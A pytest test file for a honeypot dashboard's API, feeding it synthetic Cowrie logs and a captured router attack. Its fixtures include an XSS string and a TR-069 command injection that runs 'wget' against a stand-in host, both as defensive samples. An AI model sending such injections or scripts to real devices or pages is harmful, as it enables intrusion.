"""The page's API of honeypots: sentences, tables, payloads taken apart, lives, recorded terminals."""

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from fastapi.testclient import TestClient
from material import cowrie, cowrie_login, environment, import_file, write_old

from varde.app.context import Context
from varde.app.station import Station
from varde.app.web.serve import application
from varde.decode import Origin
from varde.decode.payload.capture import Capture, captures_batch
from varde.decode.ttylog import CLOSE, HEAD, OPEN, OUTPUT, WRITE
from varde.live import Writer
from varde.model import visible

DAY = {"from": "2026-11-21T00:00:00Z", "to": "2026-11-22T00:00:00Z"}
BEFORE = {"from": "2026-11-20T00:00:00Z", "to": "2026-11-21T00:00:00Z"}
LATER = 86_400
VISITOR = "198.18.7.7"
HOSTILE = "</script><img src=x onerror=alert(1)>\u202e\x1b[31m"
BEGAN = 1_795_262_500
GET = b"GET /a?b=1 HTTP/1.1\r\nHost: www.example\r\nUser-Agent: Wget/1.21\r\nX-Second: http://192.0.2.7/x.sh\r\n\r\n"
TTYLOG = HEAD.pack(OPEN, 0, 0, 0, BEGAN, 0) + HEAD.pack(WRITE, 0, 4, OUTPUT, BEGAN + 1, 0) + b"\x1b[2J" + HEAD.pack(CLOSE, 0, 0, 0, BEGAN + 2, 0)


def _lines() -> Iterator[bytes]:
    """A day before, and a day on which one visitor is let in, looks around, and goes on to a mail and a web server."""
    mine = {"session": "abc", "src_ip": VISITOR}
    target = {"dst_ip": "mx.example", "dst_port": 25, "id": 0}
    yield cowrie_login(0, "root", "old")
    yield cowrie("session.connect", LATER, **mine)
    yield cowrie_login(LATER + 1, "root", HOSTILE, success=True, **mine)
    yield cowrie("command.input", LATER + 2, input="uname -a", **mine)
    yield cowrie("direct-tcpip.request", LATER + 3, **mine, dst_ip="mx.example", dst_port=25)
    yield cowrie("direct-tcpip.data", LATER + 4, data=repr(b"EHLO bulk.example\r\n"), **mine, **target)
    yield cowrie("direct-tcpip.data", LATER + 5, data=repr(GET), **mine, **{**target, "dst_ip": "www.example", "dst_port": 80})
    yield cowrie("session.file_download", LATER + 6, url="http://192.0.2.7/x.sh", shasum="ab" * 32, outfile="dl/ab", **mine)
    yield cowrie("log.closed", LATER + 7, ttylog="var/lib/cowrie/tty/one", duration=2, **mine)
    yield cowrie("session.closed", LATER + 8, duration="8.5", **mine)
    yield cowrie_login(LATER + 20, "root", "old", session="def", src_ip="198.18.0.1")


@pytest.fixture(scope="module")
def page(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    folder = tmp_path_factory.mktemp("pot")
    tty = folder / "cowrie" / "var" / "lib" / "cowrie" / "tty"
    tty.mkdir(parents=True)
    (tty / "one").write_bytes(TTYLOG)
    with pytest.MonkeyPatch.context() as patch:
        for name, value in environment(folder).items():
            patch.setenv(name, value)
        (folder / "varde.toml").write_text(f'[[sensor]]\nname = "pot"\nhome = "{folder / "cowrie"}"\n[[override]]\nnetwork = "198.18.0.0/15"\ncountry = "NO"\nas = 64500\nas_name = "Synthetic"\n')
        context = Context(folder / "store", folder / "varde.toml", tz="UTC")
        path = write_old(folder / "pot.json", b"".join(_lines()))
        context.sensor = "pot"
        assert context.importer(str(path), context.store).read(str(path)).rejected == 0
        _catch(context)
        yield TestClient(application(Station(context)), base_url="http://127.0.0.1:8420", raise_server_exceptions=False)


def _catch(context: Context) -> None:
    """One capture of the second day: an injection into a home router."""
    data = b"POST /UD/act?1 HTTP/1.1\r\n\r\n<u:SetNTPServers><NewNTPServer1>`cd /tmp;wget http://192.0.2.9/1`</NewNTPServer1>"
    moment = BEGAN * 1_000_000
    origin = Origin("catcher", "catch:1", "caught", moment, ZoneInfo("UTC"), moment, live=True)
    writer = Writer(context.store, context.geography)
    writer.add(captures_batch([Capture(moment, VISITOR, 4444, "192.0.2.1", 7547, 6, moment, moment, len(data) + 5, data, "closed")], origin), origin)
    writer.commit()


def ask(page: TestClient, path: str, **query: Any) -> Any:
    answer = page.get(f"/api/{path}", params=query)
    assert answer.status_code == 200, answer.text
    return answer.json()


def refused(page: TestClient, path: str, **query: Any) -> str:
    answer = page.get(f"/api/{path}", params=query)
    assert answer.status_code in (400, 422), answer.text
    return str(answer.json()["detail"])


def test_the_headline_says_what_is_new_and_totals_add_up(page: TestClient) -> None:
    found = ask(page, "honeypot", **DAY)
    assert found["headline"] == ("1 password, 1 file and 1 command never seen before; 1 login was let in from 198.18.7.7 (NO), none on the day before.")
    assert found["totals"] == "2 login attempts from 2 addresses (1 new); 1 tunnel request to 1 target (1 new); 2 payloads; 1 file; 1 capture."
    assert found["counts"] == {"logins": 2, "tunnels": 1, "payloads": 2, "sessions": 3, "commands": 1, "downloads": 1, "mails": 0, "captures": 1}
    assert found["last"] is None and found["days_before"] == 1


def test_a_period_without_anything_says_when_the_last_was_seen(page: TestClient) -> None:
    found = ask(page, "honeypot", **{"from": "2026-12-01T00:00:00Z", "to": "2026-12-02T00:00:00Z"})
    assert found["headline"] == "Nobody visited a honeypot in this period." and found["last"].startswith("2026-11-21T12:01:40")
    assert "filters" in ask(page, "honeypot", **DAY, src="192.0.2.200")["headline"]
    assert ask(page, "about")["tables"]["captures"]["last"].startswith("2026-11-21T12:01:40")


def test_curves_of_a_day_show_the_days_before_it(page: TestClient) -> None:
    rows = ask(page, "honeypot/passwords", **DAY)["rows"]
    assert {row["password"]: (row["new"], row["days"]) for row in rows} == {
        HOSTILE: (True, {"2026-11-21": 1}), "old": (False, {"2026-11-20": 1, "2026-11-21": 1}),
    }  # fmt: skip
    assert {tuple(row["days"]) for row in ask(page, "honeypot/pairs", **DAY)["rows"]} == {("2026-11-21",), ("2026-11-20", "2026-11-21")}


def test_tables_are_filtered_and_systems_named(page: TestClient) -> None:
    assert [row["password"] for row in ask(page, "honeypot/passwords", **DAY, src=VISITOR)["rows"]] == [HOSTILE]
    source = ask(page, "honeypot/sources", **DAY, src=VISITOR)["rows"][0]
    assert (source["as"], source["as_name"], source["cc"], source["tunnels"]) == (64500, "Synthetic", "NO", 1)
    assert [row["session"] for row in ask(page, "honeypot/sessions", **DAY, user="nobody")["rows"]] == []
    assert "leave out" in refused(page, "honeypot/tunnels", **DAY, user="root")
    assert "no such table" in refused(page, "honeypot/secrets.csv", **DAY)


def test_csv_is_harmless_and_has_the_columns_of_the_command(page: TestClient) -> None:
    answer = page.get("/api/honeypot/pairs.csv", params=DAY)
    assert answer.headers["content-type"].startswith("text/csv") and 'filename="honeypot-pairs-2026-11-21.csv"' in answer.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert [row["password"] for row in rows if row["new"] == "1"] == [visible(HOSTILE)] and "days" not in rows[0]
    assert page.get("/api/honeypot/mails.csv", params=DAY).text.strip() == ""


def test_a_payload_is_taken_apart_with_its_headers_in_order(page: TestClient) -> None:
    row, = ask(page, "honeypot/payloads", **DAY, form="http")["rows"]
    found = ask(page, "payload", **DAY, example=row["example"])
    assert found["payload"]["headers"] == [["Host", "www.example"], ["User-Agent", "Wget/1.21"], ["X-Second", "hxxp://192[.]0[.]2[.]7/x.sh"]]
    assert found["payload"]["urls"] == ["hxxp://192[.]0[.]2[.]7/x.sh"]
    assert found["payload"]["dump"][0].startswith("00000000  47 45 54 20 2f") and (found["src_addr"], found["session"]) == (VISITOR, "abc")
    assert "no such payload" in refused(page, "payload", **BEFORE, example=row["example"])
    for name in ("", "x", "1", "-1:a", "²:a", f"{2**63}:a"):
        assert "is no payload" in refused(page, "payload", **DAY, example=name)


def test_captures_are_listed_and_known(page: TestClient) -> None:
    found = ask(page, "captures", **DAY)
    assert found["total"] == 1 and "data" not in found["captures"][0]
    assert (found["captures"][0]["dst_port"], found["captures"][0]["known"]) == (7547, "TR-069 SetNTPServers injection")
    one = ask(page, f"captures/{found['captures'][0]['id']}")
    assert one["payload"]["known"]["reference"].startswith("https://") and one["seen"]["captures"] == 1
    assert one["payload"]["urls"] == ["hxxp://192[.]0[.]2[.]9/1"] and one["payload"]["dump"][-1] == "5 octets more were sent and not kept"
    assert ask(page, "captures", **DAY, port=23)["captures"] == []
    assert [row["known"] for row in csv.DictReader(io.StringIO(page.get("/api/captures.csv", params=DAY).text))] == ["TR-069 SetNTPServers injection"]
    for name in ("0", "zz", "f" * 16, "..%2f"):
        assert page.get(f"/api/captures/{name}").status_code in (400, 404)


def test_a_life_has_its_chain_and_is_part_of_why(page: TestClient) -> None:
    found = ask(page, "life", **DAY, src=VISITOR)["life"]
    assert found["counts"] == {"logins": 1, "tunnels": 1, "payloads": 2, "commands": 1, "downloads": 1, "mails": 0, "captures": 1}
    assert {(link["ehlo"], link["target"], link["host"], link["path"]) for link in found["chain"]} == {
        ("bulk.example", "mx.example", None, None), (None, "www.example", "www.example", "/a?b=1"),
    }  # fmt: skip
    assert found["most"]["pairs"][0]["user"] == "root" and found["accepted"] == 1
    assert (found["cc"], found["as"], found["as_name"]) == ("NO", 64500, "Synthetic")
    whole = ask(page, "why", q=VISITOR)["honeypot"]
    assert [whole[name] for name in ("counts", "chain", "accepted")] == [found[name] for name in ("counts", "chain", "accepted")]
    assert ask(page, "why", q="192.0.2.200")["honeypot"] is None and ask(page, "why", q="tcp/23")["honeypot"] is None
    assert ask(page, "life", **BEFORE, src=VISITOR)["life"] is None
    assert "say src" in refused(page, "life", **DAY)


def test_a_storyboard_is_in_order_and_names_its_payloads(page: TestClient) -> None:
    events = ask(page, "storyboard", **DAY, session="abc")["events"]
    assert [event["kind"] for event in events] == ["connect", "login", "command", "tunnel", "payload", "payload", "download", "recording", "close"]
    assert events[1]["accepted"] is True and ask(page, "payload", **DAY, example=events[4]["example"])["payload"]["says"][0] == ["form", "smtp"]
    whole = ask(page, "storyboard", **DAY, src=VISITOR)["events"]
    assert [event["kind"] for event in whole if event["session"] is None] == ["capture"]


def test_a_recording_is_told_as_it_was_shown(page: TestClient) -> None:
    found = ask(page, "recording", **DAY, session="abc")["recordings"]
    assert [(one["began"], one["lasted_ms"], one["events"], one["is_cut"]) for one in found] == [("2026-11-21T12:01:40Z", 2000, [[1000, "\x1b[2J"]], False)]
    assert "tells of no recorded terminal" in refused(page, "recording", **DAY, session="def")


def test_recordings_need_a_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name, value in environment(tmp_path).items():
        monkeypatch.setenv(name, value)
    (tmp_path / "varde.toml").write_text("")
    context = Context(tmp_path / "store", tmp_path / "varde.toml", tz="UTC")
    import_file(context.store, write_old(tmp_path / "pot.json", b"".join(_lines())), "pot")
    page = TestClient(application(Station(context)), base_url="http://127.0.0.1:8420")
    assert "home = " in refused(page, "recording", **DAY, session="abc")


def test_an_empty_store_answers(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name, value in environment(tmp_path).items():
        monkeypatch.setenv(name, value)
    (tmp_path / "varde.toml").write_text("")
    page = TestClient(application(Station(Context(tmp_path / "store", tmp_path / "varde.toml", tz="UTC"))), base_url="http://127.0.0.1:8420")
    found = ask(page, "honeypot", **DAY)
    assert found["last"] is None and not any(found["counts"].values())
    assert ask(page, "captures", **DAY) == {"total": 0, "captures": []} and ask(page, "life", **DAY, src=VISITOR)["life"] is None
    assert ask(page, "storyboard", **DAY, src=VISITOR)["events"] == [] and ask(page, "why", q=VISITOR)["honeypot"] is None


def test_what_attackers_wrote_is_json_and_nothing_else(page: TestClient) -> None:
    answer = page.get("/api/honeypot/passwords", params=DAY)
    assert answer.headers["content-type"] == "application/json" and answer.headers["x-content-type-options"] == "nosniff"
    assert HOSTILE in [row["password"] for row in json.loads(answer.text)["rows"]]
